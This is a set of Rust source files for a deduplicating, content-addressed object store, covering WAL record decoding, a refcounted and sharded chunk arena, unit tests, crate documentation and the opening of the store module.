    /// Deserialize a WAL payload. `None` on malformed input (dropped
    /// and counted by recovery, never a panic).
    pub fn decode(bytes: &[u8]) -> Option<StoreRecord> {
        let mut r = Reader::new(bytes);
        let rec = match r.u8()? {
            1 => StoreRecord::CreateBucket { name: r.str()?, rule: decode_rule(&mut r)? },
            2 => StoreRecord::Put {
                bucket: r.str()?,
                key: r.str()?,
                time_millis: r.u64()?,
                manifest: decode_manifest(&mut r)?,
                new_chunks: decode_chunk_list(&mut r)?,
                user: decode_user(&mut r)?,
                wire_bytes: r.u64()?,
                delta: r.u8()? != 0,
            },
            3 => StoreRecord::Touch {
                bucket: r.str()?,
                key: r.str()?,
                time_millis: r.u64()?,
                size: r.u64()?,
            },
            4 => StoreRecord::Delete { bucket: r.str()?, key: r.str()? },
            5 => StoreRecord::Sweep { time_millis: r.u64()? },
            6 => {
                let nb = r.u32()? as usize;
                let mut buckets = Vec::with_capacity(nb.min(1 << 10));
                for _ in 0..nb {
                    let name = r.str()?;
                    let rule = decode_rule(&mut r)?;
                    let no = r.u32()? as usize;
                    let mut objects = Vec::with_capacity(no.min(1 << 16));
                    for _ in 0..no {
                        let meta = decode_meta(&mut r)?;
                        let manifest = decode_manifest(&mut r)?;
                        objects.push(SnapObject { meta, manifest });
                    }
                    buckets.push(SnapBucket { name, rule, objects });
                }
                let chunks = decode_chunk_list(&mut r)?;
                let mut vals = [0u64; 9];
                for v in &mut vals {
                    *v = r.u64()?;
                }
                StoreRecord::SnapshotStore {
                    buckets,
                    chunks,
                    counters: SnapCounters {
                        bytes_uploaded: vals[0],
                        bytes_downloaded: vals[1],
                        bytes_wire: vals[2],
                        puts: vals[3],
                        delta_puts: vals[4],
                        gets: vals[5],
                        deletes: vals[6],
                        expired: vals[7],
                        dedup_hits: vals[8],
                    },
                }
            }
            7 => StoreRecord::ChunkInstall { digest: r.u64()?, bytes: r.bytes()? },
            _ => return None,
        };
        r.done().then_some(rec)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_round_trip() {
        let manifest = ChunkManifest {
            chunks: vec![
                ChunkRef { digest: 0xDEAD, len: 4 },
                ChunkRef { digest: 0xBEEF, len: 6 },
            ],
            total_len: 10,
            etag: "fnv1a:abc".into(),
        };
        let records = vec![
            StoreRecord::CreateBucket {
                name: "uploads".into(),
                rule: LifecycleRule::AfterLastUse(SimDuration::from_days(30)),
            },
            StoreRecord::Put {
                bucket: "uploads".into(),
                key: "team/x.tar".into(),
                time_millis: 123_456,
                manifest: manifest.clone(),
                new_chunks: vec![(0xDEAD, Bytes::from_static(b"abcd"))],
                user: [("team".to_string(), "a".to_string())].into_iter().collect(),
                wire_bytes: 42,
                delta: true,
            },
            StoreRecord::Touch {
                bucket: "uploads".into(),
                key: "team/x.tar".into(),
                time_millis: 200_000,
                size: 10,
            },
            StoreRecord::Delete { bucket: "uploads".into(), key: "team/x.tar".into() },
            StoreRecord::Sweep { time_millis: 300_000 },
            StoreRecord::SnapshotStore {
                buckets: vec![SnapBucket {
                    name: "uploads".into(),
                    rule: LifecycleRule::Keep,
                    objects: vec![SnapObject {
                        meta: ObjectMeta {
                            key: "k".into(),
                            size: 10,
                            etag: "e".into(),
                            uploaded_at: SimTime::from_millis(1),
                            last_used: SimTime::from_millis(2),
                            user: BTreeMap::new(),
                        },
                        manifest,
                    }],
                }],
                chunks: vec![(7, Bytes::from_static(b"zz"))],
                counters: SnapCounters { puts: 3, dedup_hits: 1, ..SnapCounters::default() },
            },
            StoreRecord::ChunkInstall {
                digest: 0xFEED_FACE,
                bytes: Bytes::from_static(b"chunk body"),
            },
        ];
        for rec in records {
            assert_eq!(StoreRecord::decode(&rec.encode()), Some(rec));
        }
    }

    #[test]
    fn malformed_payloads_decode_to_none() {
        assert_eq!(StoreRecord::decode(&[]), None);
        assert_eq!(StoreRecord::decode(&[77]), None);
        let mut bytes = StoreRecord::Sweep { time_millis: 1 }.encode();
        bytes.push(9);
        assert_eq!(StoreRecord::decode(&bytes), None);
        bytes.truncate(4);
        assert_eq!(StoreRecord::decode(&bytes), None);
    }
}
