//! Refcounted content-addressed chunk arena — the physical layer of
//! the store.
//!
//! Objects (see [`crate::store::ObjectStore`]) are manifests of chunk
//! digests; every distinct chunk lives here exactly once with a
//! reference count. Overwrites, deletes and lifecycle expiry release
//! references, and a chunk's bytes are freed only when the last
//! manifest referencing it is gone — which is what makes lifecycle GC
//! safe in the presence of cross-object sharing (DESIGN.md §10).

use bytes::Bytes;
use std::collections::BTreeMap;

struct ChunkEntry {
    data: Bytes,
    refs: u64,
}

/// The chunk arena: digest → (bytes, refcount), plus physical-usage
/// accounting.
#[derive(Default)]
pub(crate) struct ChunkStore {
    chunks: BTreeMap<u64, ChunkEntry>,
    physical_bytes: u64,
    dedup_hits: u64,
}

impl ChunkStore {
    pub fn new() -> Self {
        Self::default()
    }

    /// Whether a chunk with this digest is resident.
    pub fn contains(&self, digest: u64) -> bool {
        self.chunks.contains_key(&digest)
    }

    /// The chunk's bytes, if resident.
    pub fn data(&self, digest: u64) -> Option<Bytes> {
        self.chunks.get(&digest).map(|e| e.data.clone())
    }

    /// Take one reference on `digest`. If the chunk is already
    /// resident this is a dedup hit and `data` is ignored; otherwise
    /// `data` must carry the bytes, or `Err(())` is returned and no
    /// reference is taken. Returns `Ok(true)` on a dedup hit.
    pub fn retain(&mut self, digest: u64, data: Option<&Bytes>) -> Result<bool, ()> {
        if let Some(entry) = self.chunks.get_mut(&digest) {
            entry.refs += 1;
            self.dedup_hits += 1;
            return Ok(true);
        }
        let Some(data) = data else { return Err(()) };
        self.physical_bytes += data.len() as u64;
        self.chunks.insert(
            digest,
            ChunkEntry {
                data: data.clone(),
                refs: 1,
            },
        );
        Ok(false)
    }

    /// Drop one reference; frees the chunk bytes when the count hits
    /// zero. Releasing an unknown digest is a logic error upstream and
    /// is ignored in release builds.
    pub fn release(&mut self, digest: u64) {
        let Some(entry) = self.chunks.get_mut(&digest) else {
            debug_assert!(false, "release of untracked chunk {digest:016x}");
            return;
        };
        entry.refs -= 1;
        if entry.refs == 0 {
            self.physical_bytes -= entry.data.len() as u64;
            self.chunks.remove(&digest);
        }
    }

    /// Number of distinct resident chunks.
    pub fn count(&self) -> u64 {
        self.chunks.len() as u64
    }

    /// Bytes actually held (each distinct chunk counted once).
    pub fn physical_bytes(&self) -> u64 {
        self.physical_bytes
    }

    /// Cumulative count of retains that found the chunk already
    /// resident.
    pub fn dedup_hits(&self) -> u64 {
        self.dedup_hits
    }

    // ---- recovery support (crate::journal) ---------------------------

    /// Every resident chunk in digest order — the physical payload of a
    /// compaction snapshot.
    pub fn snapshot_chunks(&self) -> Vec<(u64, Bytes)> {
        self.chunks.iter().map(|(d, e)| (*d, e.data.clone())).collect()
    }

    /// Install chunk bytes with a zero refcount during snapshot
    /// restore; references are re-derived from object manifests via
    /// [`ChunkStore::ref_existing`]. No-op if the digest is already
    /// resident.
    pub fn restore_chunk(&mut self, digest: u64, data: Bytes) {
        if self.chunks.contains_key(&digest) {
            return;
        }
        self.physical_bytes += data.len() as u64;
        self.chunks.insert(digest, ChunkEntry { data, refs: 0 });
    }

    /// Take one reference on an already-resident chunk without
    /// counting a dedup hit (restore path). Returns `false` if the
    /// digest is not resident.
    pub fn ref_existing(&mut self, digest: u64) -> bool {
        match self.chunks.get_mut(&digest) {
            Some(entry) => {
                entry.refs += 1;
                true
            }
            None => false,
        }
    }

    /// Overwrite the cumulative dedup-hit counter (snapshot restore).
    pub fn set_dedup_hits(&mut self, hits: u64) {
        self.dedup_hits = hits;
    }

    /// Replay-mode retain, used when chunk bytes are restored up front
    /// (per-shard chunk logs) rather than riding the object records.
    ///
    /// Replay pre-installs every logged chunk at refcount zero, so
    /// "resident" no longer means what it meant live and plain
    /// [`ChunkStore::retain`] would count phantom dedup hits. Here the
    /// original run's outcome is re-derived from the refcount instead:
    /// `refs > 0` means some earlier replayed object still references
    /// the chunk, so the original op found it resident — a dedup hit;
    /// `refs == 0` means the original op admitted it fresh — no hit.
    /// Returns `None` when the bytes are absent entirely (lost with a
    /// torn record; the object must be dropped).
    pub fn retain_replay(&mut self, digest: u64) -> Option<bool> {
        let entry = self.chunks.get_mut(&digest)?;
        let hit = entry.refs > 0;
        entry.refs += 1;
        if hit {
            self.dedup_hits += 1;
        }
        Some(hit)
    }

    /// Replay-mode release: drops the reference but keeps the bytes
    /// resident at refcount zero, because a later replayed object may
    /// re-admit the same content (live, it would re-supply the bytes;
    /// in replay they only exist here). Orphans are swept once at the
    /// end by [`ChunkStore::prune_unreferenced`].
    pub fn release_replay(&mut self, digest: u64) {
        if let Some(entry) = self.chunks.get_mut(&digest) {
            entry.refs = entry.refs.saturating_sub(1);
        }
    }

    /// Zero every refcount, keeping bytes resident — replaying a
    /// snapshot record re-derives references from the snapshot's own
    /// manifests, discarding whatever pre-snapshot replay accumulated.
    pub fn reset_refs(&mut self) {
        for entry in self.chunks.values_mut() {
            entry.refs = 0;
        }
    }

    /// Drop chunks no surviving manifest references (objects discarded
    /// during a faulted replay leave their restored bytes orphaned).
    pub fn prune_unreferenced(&mut self) {
        let orphans: Vec<u64> = self
            .chunks
            .iter()
            .filter(|(_, e)| e.refs == 0)
            .map(|(d, _)| *d)
            .collect();
        for digest in orphans {
            if let Some(entry) = self.chunks.remove(&digest) {
                self.physical_bytes -= entry.data.len() as u64;
            }
        }
    }
}

// ---- sharded arena ---------------------------------------------------

/// The chunk arena partitioned into independent lock domains by digest
/// prefix: chunk `d` lives in shard `(d >> 56) % N`, a pure function of
/// the digest, so a chunk lands in the same shard on every run and
/// every replay (DESIGN.md §16). Gear digests diffuse content into the
/// top byte, so shards load-balance without coordination.
///
/// Each shard is a [`ChunkStore`] behind its own reader-writer lock;
/// admissions touching disjoint shards proceed concurrently, and pure
/// presence reads (`contains`, `totals`, occupancy gauges) share the
/// read half without excluding each other. All cross-shard accounting
/// is the sum over shards — shards partition the digest space, so sums
/// are exact, not approximations.
///
/// `N = 1` (the default) is the preserved single-lock reference
/// configuration.
pub(crate) struct ChunkArena {
    shards: Vec<parking_lot::RwLock<ChunkStore>>,
    /// Cumulative microseconds spent waiting on contended shard locks.
    /// A host fact (like `ExecStats`): surfaced in reports and
    /// telemetry, never in fingerprints.
    lock_wait_micros: std::sync::atomic::AtomicU64,
    /// Exclusive (write) guard acquisitions — lets tests assert that a
    /// pure read path never took a writer lock.
    write_acquisitions: std::sync::atomic::AtomicU64,
    /// Shared (read) guard acquisitions.
    read_acquisitions: std::sync::atomic::AtomicU64,
}

impl ChunkArena {
    pub fn new(shards: usize) -> Self {
        ChunkArena {
            shards: (0..shards.max(1)).map(|_| Default::default()).collect(),
            lock_wait_micros: std::sync::atomic::AtomicU64::new(0),
            write_acquisitions: std::sync::atomic::AtomicU64::new(0),
            read_acquisitions: std::sync::atomic::AtomicU64::new(0),
        }
    }

    /// Number of lock domains.
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// Which shard owns `digest` — pure function of the digest prefix.
    pub fn shard_of(&self, digest: u64) -> usize {
        ((digest >> 56) as usize) % self.shards.len()
    }

    /// Lock one shard exclusively (mutation path), charging contended
    /// waits to the lock-wait counter. The uncontended fast path costs
    /// one `try_write`.
    pub fn lock(&self, shard: usize) -> parking_lot::RwLockWriteGuard<'_, ChunkStore> {
        self.write_acquisitions
            .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        if let Some(g) = self.shards[shard].try_write() {
            return g;
        }
        let start = std::time::Instant::now();
        let g = self.shards[shard].write();
        self.lock_wait_micros.fetch_add(
            start.elapsed().as_micros() as u64,
            std::sync::atomic::Ordering::Relaxed,
        );
        g
    }

    /// Lock one shard shared (pure read path): presence checks and
    /// accounting sums run here without excluding each other — only a
    /// concurrent admission on the *same* shard blocks, and that wait
    /// is charged to the lock-wait counter like any other.
    pub fn read(&self, shard: usize) -> parking_lot::RwLockReadGuard<'_, ChunkStore> {
        self.read_acquisitions
            .fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        if let Some(g) = self.shards[shard].try_read() {
            return g;
        }
        let start = std::time::Instant::now();
        let g = self.shards[shard].read();
        self.lock_wait_micros.fetch_add(
            start.elapsed().as_micros() as u64,
            std::sync::atomic::Ordering::Relaxed,
        );
        g
    }

    /// Lock the given shards (deduplicated) in ascending index order —
    /// the global order that makes multi-shard admission deadlock-free
    /// — and return the guards keyed by shard index.
    pub fn lock_many(
        &self,
        mut shards: Vec<usize>,
    ) -> Vec<(usize, parking_lot::RwLockWriteGuard<'_, ChunkStore>)> {
        shards.sort_unstable();
        shards.dedup();
        shards.into_iter().map(|s| (s, self.lock(s))).collect()
    }

    /// Whether a chunk is resident (momentary; no cross-shard lock,
    /// shared read guard only — never blocks other readers).
    pub fn contains(&self, digest: u64) -> bool {
        self.read(self.shard_of(digest)).contains(digest)
    }

    /// Aggregate `(chunks, physical_bytes, dedup_hits)` over shards.
    pub fn totals(&self) -> (u64, u64, u64) {
        let mut t = (0, 0, 0);
        for i in 0..self.shards.len() {
            let g = self.read(i);
            t.0 += g.count();
            t.1 += g.physical_bytes();
            t.2 += g.dedup_hits();
        }
        t
    }

    /// Resident chunks per shard, by shard index — the occupancy gauge
    /// surfaced as `rai_store_shard_chunks`.
    pub fn shard_chunk_counts(&self) -> Vec<u64> {
        (0..self.shards.len()).map(|i| self.read(i).count()).collect()
    }

    /// Cumulative contended lock-wait time, in microseconds.
    pub fn lock_wait_micros(&self) -> u64 {
        self.lock_wait_micros.load(std::sync::atomic::Ordering::Relaxed)
    }

    /// Cumulative exclusive-guard acquisitions (tests assert read
    /// paths leave this untouched).
    pub fn write_acquisitions(&self) -> u64 {
        self.write_acquisitions.load(std::sync::atomic::Ordering::Relaxed)
    }

    /// Cumulative shared-guard acquisitions.
    pub fn read_acquisitions(&self) -> u64 {
        self.read_acquisitions.load(std::sync::atomic::Ordering::Relaxed)
    }

    // ---- replay support (single-threaded recovery paths) -------------

    /// Drop every shard's contents (legacy snapshot replay: the
    /// snapshot record carries the full physical payload).
    pub fn wipe(&self) {
        for s in &self.shards {
            *s.write() = ChunkStore::new();
        }
    }

    /// Zero every refcount in every shard, keeping bytes resident
    /// (sharded snapshot replay re-derives references from manifests).
    pub fn reset_refs(&self) {
        for s in &self.shards {
            s.write().reset_refs();
        }
    }

    /// Overwrite the cumulative dedup-hit total (snapshot restore).
    /// The counter is a sum over shards; park the whole total on shard
    /// 0 and zero the rest — per-shard attribution of pre-snapshot
    /// hits is not reconstructible, only the total is journaled.
    pub fn set_dedup_hits_total(&self, hits: u64) {
        for (i, s) in self.shards.iter().enumerate() {
            s.write().set_dedup_hits(if i == 0 { hits } else { 0 });
        }
    }

    /// Drop refcount-zero chunks in every shard (end of replay).
    pub fn prune_unreferenced(&self) {
        for s in &self.shards {
            s.write().prune_unreferenced();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn b(s: &[u8]) -> Bytes {
        Bytes::copy_from_slice(s)
    }

    #[test]
    fn retain_release_lifecycle() {
        let mut cs = ChunkStore::new();
        assert_eq!(cs.retain(1, Some(&b(b"aaaa"))), Ok(false));
        assert_eq!(cs.retain(1, None), Ok(true), "second ref is a dedup hit");
        assert_eq!(cs.count(), 1);
        assert_eq!(cs.physical_bytes(), 4);
        assert_eq!(cs.dedup_hits(), 1);
        cs.release(1);
        assert!(cs.contains(1), "one ref left");
        cs.release(1);
        assert!(!cs.contains(1));
        assert_eq!(cs.physical_bytes(), 0);
    }

    #[test]
    fn retain_without_data_fails_for_unknown_chunk() {
        let mut cs = ChunkStore::new();
        assert_eq!(cs.retain(42, None), Err(()));
        assert!(!cs.contains(42));
    }

    #[test]
    fn distinct_chunks_accumulate_physical_bytes() {
        let mut cs = ChunkStore::new();
        cs.retain(1, Some(&b(b"xx"))).unwrap();
        cs.retain(2, Some(&b(b"yyy"))).unwrap();
        assert_eq!(cs.physical_bytes(), 5);
        assert_eq!(cs.count(), 2);
        assert_eq!(cs.data(2).unwrap().as_ref(), b"yyy");
        assert_eq!(cs.data(3), None);
    }

    #[test]
    fn replay_retain_reconstructs_hits_through_release_cycles() {
        // Mirrors the original run: A admits X, B dedups X (1 hit),
        // A deleted, C re-admits X fresh (no hit). In replay, bytes are
        // pre-installed at refs 0 and the hit/fresh outcome is
        // re-derived from the refcount.
        let mut cs = ChunkStore::new();
        cs.restore_chunk(7, b(b"chunk"));
        assert_eq!(cs.retain_replay(7), Some(false), "A: fresh admission");
        assert_eq!(cs.retain_replay(7), Some(true), "B: dedup hit");
        assert_eq!(cs.dedup_hits(), 1);
        cs.release_replay(7); // delete A
        cs.release_replay(7); // delete B
        assert!(cs.contains(7), "replay release keeps bytes at refs 0");
        assert_eq!(cs.retain_replay(7), Some(false), "C: fresh again, no hit");
        assert_eq!(cs.dedup_hits(), 1);
        assert_eq!(cs.retain_replay(99), None, "absent bytes: object dropped");
        cs.release_replay(7);
        cs.prune_unreferenced();
        assert!(!cs.contains(7), "final prune frees true orphans");
        assert_eq!(cs.physical_bytes(), 0);
    }

    #[test]
    fn reset_refs_keeps_bytes() {
        let mut cs = ChunkStore::new();
        cs.retain(1, Some(&b(b"xx"))).unwrap();
        cs.retain(1, None).unwrap();
        cs.reset_refs();
        assert!(cs.contains(1));
        assert!(cs.ref_existing(1), "snapshot replay re-references");
        cs.release(1);
        assert!(!cs.contains(1), "exactly one ref after reset");
    }

    #[test]
    fn arena_shards_partition_by_digest_prefix() {
        let arena = ChunkArena::new(4);
        assert_eq!(arena.shard_count(), 4);
        // Digest prefix picks the shard; low bits are irrelevant.
        let d0 = 0xABCDu64;
        let d1 = 0x01u64 << 56 | 0xABCD;
        let d5 = 0x05u64 << 56;
        assert_eq!(arena.shard_of(d0), 0);
        assert_eq!(arena.shard_of(d1), 1);
        assert_eq!(arena.shard_of(d5), 1, "prefix mod shard count");
        arena.lock(arena.shard_of(d0)).retain(d0, Some(&b(b"aa"))).unwrap();
        arena.lock(arena.shard_of(d1)).retain(d1, Some(&b(b"bbb"))).unwrap();
        assert!(arena.contains(d0));
        assert!(!arena.contains(d5));
        assert_eq!(arena.totals(), (2, 5, 0));
        assert_eq!(arena.shard_chunk_counts(), vec![1, 1, 0, 0]);
        // lock_many dedups and orders ascending.
        let guards = arena.lock_many(vec![3, 1, 1, 0]);
        let order: Vec<usize> = guards.iter().map(|(s, _)| *s).collect();
        assert_eq!(order, vec![0, 1, 3]);
    }
}
