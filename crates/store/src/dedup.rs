//! Refcounted content-addressed chunk arena — the physical layer of
//! the store.
//!
//! Objects (see [`crate::store::ObjectStore`]) are manifests of chunk
//! digests; every distinct chunk lives here exactly once with a
//! reference count. Overwrites, deletes and lifecycle expiry release
//! references, and a chunk's bytes are freed only when the last
//! manifest referencing it is gone — which is what makes lifecycle GC
//! safe in the presence of cross-object sharing (DESIGN.md §10).

use bytes::Bytes;
use std::collections::BTreeMap;

struct ChunkEntry {
    data: Bytes,
    refs: u64,
}

/// The chunk arena: digest → (bytes, refcount), plus physical-usage
/// accounting.
#[derive(Default)]
pub(crate) struct ChunkStore {
    chunks: BTreeMap<u64, ChunkEntry>,
    physical_bytes: u64,
    dedup_hits: u64,
}

impl ChunkStore {
    pub fn new() -> Self {
        Self::default()
    }

    /// Whether a chunk with this digest is resident.
    pub fn contains(&self, digest: u64) -> bool {
        self.chunks.contains_key(&digest)
    }

    /// The chunk's bytes, if resident.
    pub fn data(&self, digest: u64) -> Option<Bytes> {
        self.chunks.get(&digest).map(|e| e.data.clone())
    }

    /// Take one reference on `digest`. If the chunk is already
    /// resident this is a dedup hit and `data` is ignored; otherwise
    /// `data` must carry the bytes, or `Err(())` is returned and no
    /// reference is taken. Returns `Ok(true)` on a dedup hit.
    pub fn retain(&mut self, digest: u64, data: Option<&Bytes>) -> Result<bool, ()> {
        if let Some(entry) = self.chunks.get_mut(&digest) {
            entry.refs += 1;
            self.dedup_hits += 1;
            return Ok(true);
        }
        let Some(data) = data else { return Err(()) };
        self.physical_bytes += data.len() as u64;
        self.chunks.insert(
            digest,
            ChunkEntry {
                data: data.clone(),
                refs: 1,
            },
        );
        Ok(false)
    }

    /// Drop one reference; frees the chunk bytes when the count hits
    /// zero. Releasing an unknown digest is a logic error upstream and
    /// is ignored in release builds.
    pub fn release(&mut self, digest: u64) {
        let Some(entry) = self.chunks.get_mut(&digest) else {
            debug_assert!(false, "release of untracked chunk {digest:016x}");
            return;
        };
        entry.refs -= 1;
        if entry.refs == 0 {
            self.physical_bytes -= entry.data.len() as u64;
            self.chunks.remove(&digest);
        }
    }

    /// Number of distinct resident chunks.
    pub fn count(&self) -> u64 {
        self.chunks.len() as u64
    }

    /// Bytes actually held (each distinct chunk counted once).
    pub fn physical_bytes(&self) -> u64 {
        self.physical_bytes
    }

    /// Cumulative count of retains that found the chunk already
    /// resident.
    pub fn dedup_hits(&self) -> u64 {
        self.dedup_hits
    }

    // ---- recovery support (crate::journal) ---------------------------

    /// Every resident chunk in digest order — the physical payload of a
    /// compaction snapshot.
    pub fn snapshot_chunks(&self) -> Vec<(u64, Bytes)> {
        self.chunks.iter().map(|(d, e)| (*d, e.data.clone())).collect()
    }

    /// Install chunk bytes with a zero refcount during snapshot
    /// restore; references are re-derived from object manifests via
    /// [`ChunkStore::ref_existing`]. No-op if the digest is already
    /// resident.
    pub fn restore_chunk(&mut self, digest: u64, data: Bytes) {
        if self.chunks.contains_key(&digest) {
            return;
        }
        self.physical_bytes += data.len() as u64;
        self.chunks.insert(digest, ChunkEntry { data, refs: 0 });
    }

    /// Take one reference on an already-resident chunk without
    /// counting a dedup hit (restore path). Returns `false` if the
    /// digest is not resident.
    pub fn ref_existing(&mut self, digest: u64) -> bool {
        match self.chunks.get_mut(&digest) {
            Some(entry) => {
                entry.refs += 1;
                true
            }
            None => false,
        }
    }

    /// Overwrite the cumulative dedup-hit counter (snapshot restore).
    pub fn set_dedup_hits(&mut self, hits: u64) {
        self.dedup_hits = hits;
    }

    /// Drop chunks no surviving manifest references (objects discarded
    /// during a faulted replay leave their restored bytes orphaned).
    pub fn prune_unreferenced(&mut self) {
        let orphans: Vec<u64> = self
            .chunks
            .iter()
            .filter(|(_, e)| e.refs == 0)
            .map(|(d, _)| *d)
            .collect();
        for digest in orphans {
            if let Some(entry) = self.chunks.remove(&digest) {
                self.physical_bytes -= entry.data.len() as u64;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn b(s: &[u8]) -> Bytes {
        Bytes::copy_from_slice(s)
    }

    #[test]
    fn retain_release_lifecycle() {
        let mut cs = ChunkStore::new();
        assert_eq!(cs.retain(1, Some(&b(b"aaaa"))), Ok(false));
        assert_eq!(cs.retain(1, None), Ok(true), "second ref is a dedup hit");
        assert_eq!(cs.count(), 1);
        assert_eq!(cs.physical_bytes(), 4);
        assert_eq!(cs.dedup_hits(), 1);
        cs.release(1);
        assert!(cs.contains(1), "one ref left");
        cs.release(1);
        assert!(!cs.contains(1));
        assert_eq!(cs.physical_bytes(), 0);
    }

    #[test]
    fn retain_without_data_fails_for_unknown_chunk() {
        let mut cs = ChunkStore::new();
        assert_eq!(cs.retain(42, None), Err(()));
        assert!(!cs.contains(42));
    }

    #[test]
    fn distinct_chunks_accumulate_physical_bytes() {
        let mut cs = ChunkStore::new();
        cs.retain(1, Some(&b(b"xx"))).unwrap();
        cs.retain(2, Some(&b(b"yyy"))).unwrap();
        assert_eq!(cs.physical_bytes(), 5);
        assert_eq!(cs.count(), 2);
        assert_eq!(cs.data(2).unwrap().as_ref(), b"yyy");
        assert_eq!(cs.data(3), None);
    }
}
