//! # rai-store — the file server (paper §IV "File Storage Server")
//!
//! RAI uploads every submitted project directory to a file server
//! (Amazon S3 in the paper's deployment) and uploads each job's `/build`
//! output directory back to it; instructors bulk-download final
//! submissions from the same place. "Files uploaded to the file server
//! can be configured to have a particular lifetime after which they get
//! deleted. The current lifetime is set between 1 and 3 months" — and
//! client uploads are "deleted one month after the last use".
//!
//! This crate is an in-process object store with those semantics:
//!
//! * buckets and keys, opaque byte payloads, user metadata;
//! * FNV-1a etags computed on upload (matching `rai_archive::Bundle`);
//! * per-bucket lifecycle rules — expire N after creation or N after
//!   last access — evaluated against the shared [`rai_sim::VirtualClock`];
//! * usage accounting (bytes stored / uploaded / downloaded, object
//!   counts) backing the paper's §VII storage numbers.

pub mod lifecycle;
pub mod object;
pub mod store;

pub use lifecycle::LifecycleRule;
pub use object::{ObjectMeta, StoredObject};
pub use store::{ObjectStore, StoreError, StoreUsage};
