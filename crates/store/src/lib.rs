//! # rai-store — the file server (paper §IV "File Storage Server")
//!
//! RAI uploads every submitted project directory to a file server
//! (Amazon S3 in the paper's deployment) and uploads each job's `/build`
//! output directory back to it; instructors bulk-download final
//! submissions from the same place. "Files uploaded to the file server
//! can be configured to have a particular lifetime after which they get
//! deleted. The current lifetime is set between 1 and 3 months" — and
//! client uploads are "deleted one month after the last use".
//!
//! This crate is an in-process object store with those semantics,
//! implemented as a **content-addressed, deduplicating** store
//! (DESIGN.md §10) — the paper's workload is dominated by
//! near-identical resubmissions of the same project tree, which dedup
//! collapses:
//!
//! * buckets and keys, opaque byte payloads, user metadata;
//! * payloads split into content-defined chunks
//!   ([`rai_archive::chunk`]); objects are chunk manifests over a
//!   refcounted chunk arena ([`dedup`]), so identical content is
//!   stored once no matter how often it is uploaded;
//! * a delta-upload protocol — [`ObjectStore::has_chunks`] +
//!   [`ObjectStore::put_delta`] — so clients ship only chunks the
//!   store does not already hold;
//! * FNV-1a etags computed on upload (matching `rai_archive::Bundle`);
//! * per-bucket lifecycle rules — expire N after creation or N after
//!   last access — evaluated against the shared [`rai_sim::VirtualClock`];
//!   expiry releases chunk references, never raw bytes, so chunks
//!   shared with live objects survive sweeps;
//! * usage accounting (logical vs physical bytes, wire bytes, dedup
//!   hits, object counts) backing the paper's §VII storage numbers.
//!
//! Entry point: [`ObjectStore`].

pub mod dedup;
pub mod journal;
pub mod lifecycle;
pub mod object;
pub mod store;

pub use journal::StoreRecord;
pub use lifecycle::LifecycleRule;
pub use object::{ObjectMeta, StoredObject};
pub use store::{ObjectStore, StoreError, StoreRecovery, StoreUsage};
