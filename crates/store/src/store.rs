//! The object store: buckets, CRUD, delta uploads, lifecycle sweeps
//! and usage accounting. Thread-safe and cheaply cloneable (clones
//! share state), like every live RAI data-plane component.
//!
//! Since the storage-model change (DESIGN.md §10) the store is
//! content-addressed: `put`/`put_delta` split payloads into
//! content-defined chunks ([`rai_archive::chunk`]) and objects are
//! manifests referencing a shared refcounted chunk arena
//! ([`crate::dedup`]). Identical content across objects, buckets and
//! re-uploads is stored once; `has_chunks` lets clients discover
//! which chunks the store already holds and upload only the rest.

use crate::dedup::ChunkArena;
use crate::journal::{SnapBucket, SnapCounters, SnapObject, StoreRecord};
use crate::lifecycle::LifecycleRule;
use crate::object::{ObjectMeta, StoredObject};
use bytes::Bytes;
use parking_lot::RwLock;
use rai_archive::chunk::{assemble, chunk_bytes_on, Chunk, ChunkManifest, ChunkerParams};
use rai_archive::fnv;
use rai_exec::Executor;
use rai_sim::{SimTime, VirtualClock};
use rai_wal::{DurabilityConfig, LogBackend, StripedBackend, Wal};
use std::collections::BTreeMap;
use std::sync::Arc;

/// Store errors.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum StoreError {
    /// Bucket does not exist.
    NoSuchBucket(String),
    /// Key does not exist in the bucket.
    NoSuchKey { bucket: String, key: String },
    /// Bucket already exists (create).
    BucketExists(String),
    /// A presigned URL failed validation (expired or tampered).
    BadPresignedUrl,
    /// Transient service failure (injected by tests/chaos runs; S3
    /// returns 503s under load and RAI must degrade gracefully).
    Unavailable,
    /// A delta upload referenced chunks that neither the request
    /// carried nor the store holds — the uploader's digest cache was
    /// stale (e.g. the chunks were garbage-collected since it was
    /// filled). The fix is to re-query [`ObjectStore::has_chunks`]
    /// and resend.
    MissingChunks {
        /// Digests that could not be resolved.
        missing: Vec<u64>,
    },
    /// A delta upload was internally inconsistent: a supplied chunk's
    /// bytes did not hash to its claimed digest, or lengths disagreed
    /// with the manifest.
    DeltaMismatch {
        /// What disagreed.
        reason: &'static str,
    },
}

impl std::fmt::Display for StoreError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            StoreError::NoSuchBucket(b) => write!(f, "no such bucket: {b}"),
            StoreError::NoSuchKey { bucket, key } => write!(f, "no such key: {bucket}/{key}"),
            StoreError::BucketExists(b) => write!(f, "bucket exists: {b}"),
            StoreError::Unavailable => write!(f, "file server temporarily unavailable"),
            StoreError::BadPresignedUrl => write!(f, "presigned URL is expired or invalid"),
            StoreError::MissingChunks { missing } => {
                write!(f, "delta upload references {} unknown chunk(s)", missing.len())
            }
            StoreError::DeltaMismatch { reason } => write!(f, "delta upload mismatch: {reason}"),
        }
    }
}

impl std::error::Error for StoreError {}

/// One stored object: metadata plus the manifest of chunks its
/// payload reassembles from.
struct ObjRecord {
    meta: ObjectMeta,
    manifest: ChunkManifest,
}

struct BucketState {
    rule: LifecycleRule,
    objects: BTreeMap<String, ObjRecord>,
}

/// Bucket and object metadata. Since the sharding change (DESIGN.md
/// §16) the chunk arena lives in its own lock domains
/// ([`crate::dedup::ChunkArena`]); this lock covers manifests only.
///
/// Lock-order invariant: `state` before arena shards (shards among
/// themselves in ascending index order), never the reverse. Chunk
/// *releases* (overwrite, delete, sweep) always run under the state
/// write lock, so a reader holding it (or even the read half — writers
/// are excluded either way) can assemble a resident manifest from the
/// arena without its chunks being freed mid-read. Chunk *admissions*
/// only ever add bytes and references, so they may run outside the
/// state lock — that is what lets concurrent `put_delta`s on disjoint
/// digest prefixes proceed in parallel.
struct StoreState {
